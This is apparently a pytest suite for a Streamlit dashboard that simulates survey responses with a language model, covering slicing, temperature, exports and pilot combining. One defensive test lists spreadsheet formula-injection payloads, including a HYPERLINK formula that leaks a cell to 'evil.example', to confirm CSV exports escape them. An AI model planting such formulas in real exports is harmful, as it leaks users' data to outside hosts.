"""Every dashboard page under Streamlit's AppTest, with real interactions (tiny model)."""

import base64
import csv
import io
import json
import tomllib
import zipfile
from pathlib import Path

import numpy as np
import pytest
from streamlit.testing.v1 import AppTest

import engine.scoring as scoring

TIMEOUT = 120
DASHBOARD = Path(__file__).resolve().parents[1] / "dashboard"


@pytest.fixture(autouse=True)
def tiny_model(monkeypatch, tmp_path):
    monkeypatch.setenv("FOCUSGROUP_MODEL", "tiny")
    from dashboard import resources

    resources.SIMULATIONS.clear()


def page(name: str) -> AppTest:
    app = AppTest.from_file(str(DASHBOARD / "pages" / f"{name}.py"), default_timeout=TIMEOUT)
    app.run()
    assert not app.exception, app.exception
    return app


def chart_data(app: AppTest, index: int = 0) -> list:
    """The first trace's y values (Plotly may send them as base64-typed arrays)."""
    figure = json.loads(app.get("plotly_chart")[index].proto.spec)
    values = figure["data"][0]["y"]
    if isinstance(values, dict):
        values = np.frombuffer(base64.b64decode(values["bdata"]), dtype=values["dtype"])
    return [float(v) for v in values]


def test_app_routes_to_the_focus_group_page():
    app = AppTest.from_file(str(DASHBOARD / "app.py"), default_timeout=TIMEOUT)
    app.run()
    assert not app.exception
    assert app.title[0].value == "Focus group"


def test_focus_group_slice_question_temperature_and_bundle(monkeypatch):
    app = page("focus_group")
    assert "Choose a slice" in app.info[0].value
    app.multiselect(key="slice_gss2018_partyid").set_value(["Strong Democrat"])
    app.button[0].click().run()  # the form's Simulate button
    assert not app.exception, app.exception
    assert "379" in app.markdown[0].value
    assert any("a second real sample of this size" in m.value for m in app.markdown)
    assert any("is not among the answers this model was trained on" in info.value for info in app.info)
    before = chart_data(app)

    def forbidden(*args, **kwargs):
        raise AssertionError("the model ran for a temperature change")

    monkeypatch.setattr(scoring, "score_personas", forbidden)
    app.slider(key="temperature").set_value(0.0).run()
    assert not app.exception, app.exception
    after = chart_data(app)
    assert before != after and all(abs(v * 379 - round(v * 379)) < 1e-6 for v in after)

    app.button(key="make_bundle").click().run()
    assert not app.exception, app.exception
    bundle = zipfile.ZipFile(io.BytesIO(app.session_state["last_bundle"]))
    names = set(bundle.namelist())
    assert {"distribution.html", "distribution.csv", "manifest.json"} <= names
    manifest = json.loads(bundle.read("manifest.json"))
    assert manifest["slice"] == {"partyid": ["Strong Democrat"]} and manifest["temperature"] == 0.0
    assert manifest["n_personas"] == 379 and manifest["survey"] == "gss2018"


def test_an_empty_slice_is_explained_not_an_error():
    app = page("focus_group")
    app.multiselect(key="slice_gss2018_race").set_value(["Other"])
    app.multiselect(key="slice_gss2018_partyid").set_value(["Other party"])
    app.multiselect(key="slice_gss2018_age").set_value(["75+"])
    app.button[0].click().run()
    assert not app.exception
    assert any("No respondent" in info.value for info in app.info)


def test_a_new_product_question_with_ab_stimuli():
    app = page("focus_group")
    app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
    app.radio(key="kind_gss2018").set_value("New product question")
    app.text_input(key="new_text").set_value("Would you try a solar roof subscription?")
    app.text_area(key="stimulus_a").set_value("No installation cost.")
    app.checkbox(key="compare").check()
    app.text_area(key="stimulus_b").set_value("Saves 30% on bills.")
    app.button[0].click().run()
    assert not app.exception, app.exception
    assert any("new question" in info.value for info in app.info)
    assert len(app.get("plotly_chart")) == 2  # the distribution and the A/B chart
    assert any("predicted shift" in header.value for header in app.subheader)


def test_scoreboard_heatmap_and_temperature_curve():
    app = page("scoreboard")
    app.multiselect(key="board_gss2018").set_value(["natspac", "natenrgy"])
    app.button[0].click().run()
    assert not app.exception, app.exception
    assert len(app.get("plotly_chart")) == 2
    assert any("lowest at" in m.value for m in app.markdown)
    coverage = app.dataframe[0].value  # the bare model trained on no question
    assert list(coverage["questions"]) == ["never saw their answers"] and list(coverage["n"]) == [2]
    assert 0 < coverage["model"][0] and 0 < coverage["noise floor"][0] < coverage["model"][0]
    # The baselines that never saw the questions' answers come first, those fitted on them after.
    assert list(coverage.columns[3:9]) == [
        "model", "without answers: scale prior", "without answers: uniform", "with answers: marginal",
        "with answers: best classical", "best classical is"]
    assert all(0 < coverage[column][0] < 1 for column in coverage.columns[4:8])


def test_train_page_explains_a_gpu_option_on_a_cpu_machine():
    app = page("train")
    app.checkbox[0].check()
    app.button[0].click().run()
    assert not app.exception
    assert any("no CUDA GPU" in info.value for info in app.info)


def test_data_page_breaks_answers_down_by_field():
    app = page("data")
    app.selectbox(key="data_f_gss2018").set_value("sex").run()
    assert not app.exception
    table = app.dataframe[0].value
    assert list(table["value"]) == ["Male", "Female"] and table["n"].sum() > 2000


@pytest.mark.skipif(__import__("shutil").which("chromium") is None, reason="needs Chromium for kaleido")
def test_charts_export_as_png_svg_html_and_csv():
    from dashboard import charts, export

    frame = charts.distribution_frame(["Yes", "No"], np.array([0.4, 0.6]), np.array([0.5, 0.5]),
                                      np.array([0.05, 0.05]))
    figure = charts.distribution_figure(frame, "Would you buy it?", "test slice")
    assert export.static_image(figure, "png").startswith(b"\x89PNG")
    assert b"<svg" in export.static_image(figure, "svg")[:200]
    assert b"Simulated by a language model" in export.html_document(figure)
    assert export.csv_bytes(frame).decode().splitlines()[0] == "option,simulated,real,real_band"
    bundle, notes = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"})
    names = set(zipfile.ZipFile(io.BytesIO(bundle)).namelist())
    assert notes == [] and {"chart.png", "chart.svg", "chart.html", "chart.csv", "manifest.json"} <= names


FORMULAS = ["=1+2", "@SUM(1)", '=HYPERLINK("http://evil.example/?leak="&A1,"Yes")', "+1", "-cmd", "\tx", "\rx"]


def test_csv_export_escapes_spreadsheet_formulas_in_cells_and_headers():
    from dashboard import charts, export

    labels = [*FORMULAS, "Plain answer"]
    frame = charts.distribution_frame(labels, np.full(len(labels), 1 / len(labels)), None, None)
    frame["=HYPERLINK(\"http://evil.example\")"] = -0.5  # a typed question as a header; a negative number
    original = frame.copy()
    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode(), newline="")))
    assert rows[0] == ["option", "simulated", "real", "real_band", "'=HYPERLINK(\"http://evil.example\")"]
    assert [row[0] for row in rows[1:]] == ["'" + label for label in FORMULAS] + ["Plain answer"]
    assert {row[4] for row in rows[1:]} == {"-0.5"}  # numbers stay numbers
    assert frame.equals(original)  # the frame on screen keeps its text

    figure = charts.distribution_figure(frame, "=1+2", "slice")
    bundle, _ = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"}, with_images=False)
    assert zipfile.ZipFile(io.BytesIO(bundle)).read("chart.csv") == export.csv_bytes(frame)


def test_the_dashboard_listens_only_on_this_machine_unless_told_otherwise():
    config = tomllib.loads((DASHBOARD.parent / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"


def test_focus_group_twins_carry_context_answers_into_the_chart_and_the_export():
    app = page("focus_group")
    app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
    app.multiselect(key="context_gss2018").set_value(["auto"])
    app.slider(key="context_k").set_value(3)
    app.button[0].click().run()
    assert not app.exception, app.exception
    simulation_request = app.session_state["simulation_request"]
    context = simulation_request["context"]
    assert len(context) == 3 and "natspac" not in context  # the first question is asked by default
    figure = json.loads(app.get("plotly_chart")[0].proto.spec)
    assert f"context (3): {', '.join(context)}" in json.dumps(figure["layout"]["title"])
    app.multiselect(key="context_gss2018").set_value([app.selectbox(key="question_gss2018").value])
    app.button[0].click().run()
    assert any("cannot be its own context" in error.value for error in app.error)


def test_focus_group_combines_a_drawn_pilot_with_the_model():
    app = page("focus_group")
    app.selectbox(key="question_gss2018").set_value("natenvir")
    app.multiselect(key="slice_gss2018_sex").set_value(["Female"])
    app.button[0].click().run()
    assert not app.exception, app.exception
    app.number_input(key="pilot_size").set_value(300)
    app.button(key="FormSubmitter:pilot-Combine with the pilot").click().run()
    assert not app.exception, app.exception
    figure = json.loads(app.get("plotly_chart")[-1].proto.spec)
    names = [trace["name"] for trace in figure["data"]]
    assert names == ["Pilot alone", "Model alone", "Pilot + model", "Real, outside the pilot"]
    assert figure["data"][0]["error_y"]["arrayminus"] and "error_y" not in figure["data"][1]
    assert any("pilot answers in sex = Female" in m.value for m in app.markdown)
    app.slider(key="temperature").set_value(0.5).run()  # the pilot stays, re-read at the new temperature
    assert not app.exception and len(app.get("plotly_chart")) == 2
    app.button(key="make_bundle").click().run()
    bundle = zipfile.ZipFile(io.BytesIO(app.session_state["last_bundle"]))
    assert "pilot.csv" in bundle.namelist()
    assert json.loads(bundle.read("manifest.json"))["pilot"]["source"] == "300 respondents drawn with seed 0"
